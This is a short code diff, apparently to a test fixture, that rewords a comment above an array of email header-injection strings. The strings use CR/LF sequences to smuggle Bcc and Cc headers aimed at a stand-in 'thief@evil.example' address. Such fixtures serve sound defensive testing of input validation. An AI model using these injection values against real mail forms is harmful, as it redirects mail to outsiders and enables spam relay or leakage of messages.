@@ -1,6 +1,6 @@
 const thief = 'thief@evil.example'
 
-/** What somebody types who wants a mail to go elsewhere, or to show or load what is not ours. */
+/** What an attacker types to send a mail elsewhere, or to make it show or load what is not ours. */
 export const attacks = [
   `x\r\nBcc: ${thief}`,
   `x\nCc: ${thief}\n\nbody`,
